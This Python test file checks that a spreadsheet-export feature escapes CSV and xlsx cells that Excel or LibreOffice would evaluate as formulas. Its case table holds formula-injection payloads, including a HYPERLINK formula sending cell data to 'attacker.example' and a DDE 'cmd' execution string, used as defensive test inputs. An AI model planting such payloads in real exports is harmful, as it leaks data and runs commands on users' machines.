"""CSV output escapes exactly what a spreadsheet program would evaluate, in the header too.

The rule is ``writing.escape_formula_text``'s docstring (and the README's "csv output").  The
table below is checked cell by cell in written csv (header and body, ``;`` and ``,``), through
the API, and by LibreOffice importing the file: no cell of ours may come out as a formula.
xlsx header cells are inert text with both engines.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import shutil
import signal
import subprocess
import time
from pathlib import Path

import httpx
import openpyxl
import polars as pl
import pytest

from chatflow.spreadsheets import writing_rust
from chatflow.spreadsheets.writing import (
    XLSX_ENGINES,
    escape_formula_text,
    escape_header,
    write_csv,
    write_workbook,
)
from tests.support import create_chat, upload

API = "/api/v1"
HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A2,"Click")'

# (text, whether it gets the apostrophe)
CASES: list[tuple[str, bool]] = [
    # always evaluated: = @ tab CR LF, fullwidth = @, after leading spaces too
    ("=1+1", True),
    (HYPERLINK, True),
    ("=cmd|' /C calc'!A0", True),
    ("@SUM(A1)", True),
    ("\t=1+1", True),
    ("\r=1+1", True),
    ("\n=1+1", True),
    ("  =1+1", True),
    ("\uff1dSUM(1,1)", True),
    ("\uff20SUM(A1)", True),
    # a sign followed by anything but a number or a phone number: a formula to Excel
    ("-2+3", True),
    ("+A1", True),
    ("-A1*2", True),
    ("-A1", True),
    ("+SUM(1;2)", True),
    ("-1/2", True),
    ("--1", True),
    ("+1-555-123-4567", True),
    ("-2^2", True),
    ("-TRUE", True),
    ("-10kg", True),
    ("- 5", True),
    ("-", True),
    ("\uff0b1", True),
    ("-(1)", True),
    # signed numbers in either decimal style, with % or a currency, and phone numbers
    ("-14", False),
    ("+5", False),
    ("-1,5", False),
    ("-1.5", False),
    ("-0,5", False),
    ("-.5", False),
    ("-,5", False),
    ("-1.", False),
    ("-1.234,56", False),
    ("-1,234.56", False),
    ("-1 234,5", False),
    ("-1\u00a0234,5", False),
    ("+1.5e3", False),
    ("-1e+20", False),
    ("-5%", False),
    ("-5 %", False),
    ("-1,5%", False),
    ("-$5", False),
    ("-5 €", False),
    ("-€1.234,50", False),
    ("+49 30 1234567", False),
    ("+1 (555) 123 4567", False),
    ("+44 (0)20 7946 0958", False),
    ("+33 1 23 45 67 89", False),
    # text that starts harmlessly, or is escaped already
    ("'=already", False),
    ("plain text", False),
    ("a=b", False),
    ("1-2", False),
    ("", False),
]


def _expected(text: str, escaped: bool) -> str:
    return f"'{text}" if escaped else text


def test_the_case_table_is_escaped_exactly() -> None:
    values = [text for text, _ in CASES]
    out = escape_formula_text(pl.DataFrame({"v": values, "n": range(len(values))}))
    assert out["v"].to_list() == [_expected(text, escaped) for text, escaped in CASES]
    assert out["n"].to_list() == list(range(len(values)))  # numbers are never touched
    assert escape_header(values) == out["v"].to_list()


@pytest.mark.parametrize("delimiter", [";", ","])
def test_header_and_body_cells_are_escaped_alike_in_written_csv(
    tmp_path: Path, delimiter: str
) -> None:
    names = [text for text, _ in CASES]
    table = pl.DataFrame([pl.Series(f"c{i}", [text]) for i, text in enumerate(names)])
    table.columns = names
    typed = pl.DataFrame({"-7": [-7], "-2.5": [-2.5], "+B1": [3]})
    dest = tmp_path / "out.csv"
    write_csv(pl.concat([table, typed], how="horizontal"), dest, delimiter=delimiter)
    header, body = list(
        csv.reader(io.StringIO(dest.read_bytes().decode("utf-8"), newline=""), delimiter=delimiter)
    )
    want = [_expected(text, escaped) for text, escaped in CASES]
    assert header == [*want, "-7", "-2.5", "'+B1"]
    assert body == [*want, "-7", "-2.5", "3"]


def test_escaping_off_leaves_the_header_alone_too(tmp_path: Path) -> None:
    dest = tmp_path / "raw.csv"
    write_csv(pl.DataFrame({HYPERLINK: ["=1+1"], "b": ["x"]}), dest, escape_formulas=False)
    assert list(csv.reader(io.StringIO(dest.read_bytes().decode("utf-8"), newline=""))) == [
        [HYPERLINK, "b"],
        ["=1+1", "x"],
    ]


def test_header_of_an_empty_table_and_of_no_columns(tmp_path: Path) -> None:
    dest = tmp_path / "empty.csv"
    write_csv(pl.DataFrame({"=x": [], "y": []}, schema={"=x": pl.String, "y": pl.Int64}), dest)
    assert dest.read_bytes() == b"'=x,y\n"
    write_csv(pl.DataFrame(), dest)
    assert dest.read_bytes() == b"\n"


def test_a_long_signed_value_is_checked_in_linear_time(tmp_path: Path) -> None:
    # "-111...1x" is the shape that made a backtracking number pattern quadratic.
    values = ["-" + "1" * 200_000 + "x", "+" + "1 " * 100_000 + "1", "-" + "1" * 200_000]
    started = time.monotonic()
    out = escape_formula_text(pl.DataFrame({"v": values}))["v"].to_list()
    assert time.monotonic() - started < 1.0
    assert out == [f"'{values[0]}", values[1], values[2]]


def test_unencodable_header_names_the_header(tmp_path: Path) -> None:
    from chatflow.failures import StepFailed

    with pytest.raises(StepFailed) as caught:
        write_csv(pl.DataFrame({"名前": ["a"]}), tmp_path / "x.csv", encoding="cp1252")
    assert caught.value.code == "unencodable_text"
    assert caught.value.message.startswith("Text the header cannot be written in cp1252")


# --- xlsx ---------------------------------------------------------------------------------


@pytest.mark.parametrize("engine", XLSX_ENGINES)
def test_xlsx_header_and_text_cells_are_strings_never_formulas(tmp_path: Path, engine: str) -> None:
    if engine != "xlsxwriter" and (problem := writing_rust.unavailable()):
        pytest.skip(f"{engine}: {problem}")
    table = pl.DataFrame({HYPERLINK: ["=1+1", "@SUM(A1)"], "+A1": ["-A1*2", "x"], "@x": [1, 2]})
    dest = tmp_path / f"{engine}.xlsx"
    write_workbook({"S": table}, dest, engine=engine)  # type: ignore[arg-type]
    cells = [
        (cell.data_type, cell.value)
        for row in openpyxl.load_workbook(dest).active.iter_rows()
        for cell in row
    ]
    assert cells[:3] == [("s", HYPERLINK), ("s", "+A1"), ("s", "@x")]
    assert [c for c in cells[3:] if c[0] == "s"] == [
        ("s", "=1+1"),
        ("s", "-A1*2"),
        ("s", "@SUM(A1)"),
        ("s", "x"),
    ]
    assert all(kind != "f" for kind, _ in cells)


# --- through the API ----------------------------------------------------------------------


def _source_csv(path: Path) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow([HYPERLINK, "amount", "phone", "@SUM(A1)"])
        writer.writerow(["=1+1", "-1,5", "+49 30 1234567", "-A1*2"])
        writer.writerow(["-5%", "-0,25", "+1-555-123-4567", "ok"])
    return path


def test_convert_to_csv_through_the_api_escapes_header_and_cells(
    client: httpx.Client, tmp_path: Path
) -> None:
    chat_id = create_chat(client)
    assert upload(client, chat_id, _source_csv(tmp_path / "src.csv")).status_code == 201
    runs = {}
    for escape in (True, False):
        response = client.post(
            f"{API}/chat/workflows/{chat_id}/execute",
            params={"wait": "true"},
            json={
                "input": "src.csv",
                "steps": [
                    {
                        "operation": "excel/convert",
                        "arguments": {
                            "format": "csv",
                            "delimiter": ";",
                            "escape_formulas": escape,
                            "output": f"out_{escape}.csv",
                        },
                    }
                ],
            },
        )
        assert response.status_code == 200, response.text
        run = response.json()["data"]
        assert run["status"] == "completed", run
        (output,) = run["outputs"]
        runs[escape] = httpx.get(output["download_url"]).text
    link = HYPERLINK.replace('"', '""')
    assert runs[True].splitlines() == [
        f"\"'{link}\";amount;phone;'@SUM(A1)",
        "'=1+1;-1,5;+49 30 1234567;'-A1*2",
        "-5%;-0,25;'+1-555-123-4567;ok",
    ]
    assert runs[False].splitlines() == [
        f'"{link}";amount;phone;@SUM(A1)',
        "=1+1;-1,5;+49 30 1234567;-A1*2",
        "-5%;-0,25;+1-555-123-4567;ok",
    ]


# --- LibreOffice importing our csv --------------------------------------------------------

CONVERT_TIMEOUT_S = 180.0


def _soffice_csv_to_xlsx(exe: str, profile: Path, source: Path, outdir: Path) -> Path:
    """``source`` (;-separated UTF-8) opened and re-saved as xlsx by headless LibreOffice,
    with its csv import defaults otherwise (formulas evaluated, special numbers detected)."""
    command = [
        exe,
        "--headless",
        "--norestore",
        f"-env:UserInstallation={profile.as_uri()}",
        "--infilter=CSV:59,34,76,1",
        "--convert-to",
        "xlsx",
        "--outdir",
        str(outdir),
        str(source),
    ]
    proc = subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True
    )
    try:
        output, _ = proc.communicate(timeout=CONVERT_TIMEOUT_S)
    finally:
        # soffice may leave helpers behind; none of its group may outlive the call.
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGKILL)
    assert proc.returncode == 0, output
    resaved = outdir / f"{source.stem}.xlsx"
    assert resaved.is_file(), output
    return resaved


@pytest.fixture(scope="module")
def soffice(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Path]:
    exe = shutil.which("soffice")
    if exe is None:
        pytest.skip(
            "soffice (LibreOffice) is not installed: apt-get install libreoffice-calc-nogui"
        )
    return exe, tmp_path_factory.mktemp("soffice-profile")


def _grid(path: Path) -> list[list[tuple[str, object]]]:
    sheet = openpyxl.load_workbook(path).active
    return [[(cell.data_type, cell.value) for cell in row] for row in sheet.iter_rows()]


@pytest.mark.slow  # LibreOffice
def test_libreoffice_evaluates_none_of_our_csv_cells(
    soffice: tuple[str, Path], tmp_path: Path
) -> None:
    exe, profile = soffice
    names = [text for text, _ in CASES if text]  # LibreOffice drops an empty header cell
    table = pl.DataFrame([pl.Series(f"c{i}", [text]) for i, text in enumerate(names)])
    table.columns = names
    escaped, raw = tmp_path / "escaped.csv", tmp_path / "raw.csv"
    write_csv(table, escaped, delimiter=";")
    write_csv(table, raw, delimiter=";", escape_formulas=False)
    outdir = tmp_path / "resaved"
    grid = _grid(_soffice_csv_to_xlsx(exe, profile, escaped, outdir))
    control = _grid(_soffice_csv_to_xlsx(exe, profile, raw, outdir))

    # The check can fail: unescaped, LibreOffice makes formulas of the = cells.
    formulas = {value for row in control for kind, value in row if kind == "f"}
    assert {"=1+1", HYPERLINK} <= formulas

    wanted = {text: escaped for text, escaped in CASES}
    assert len(grid) == 2
    for row in grid:
        assert len(row) == len(names)
        for text, (kind, value) in zip(names, row, strict=True):
            assert kind != "f", (text, value)
            if wanted[text]:
                # LibreOffice reads a CR inside a quoted cell as a line feed.
                assert (kind, value) == ("s", f"'{text}".replace("\r", "\n")), text
            else:
                # Left alone: the text itself, or the number LibreOffice reads in it.
                assert (kind, value) == ("s", text) or kind == "n", (text, kind, value)
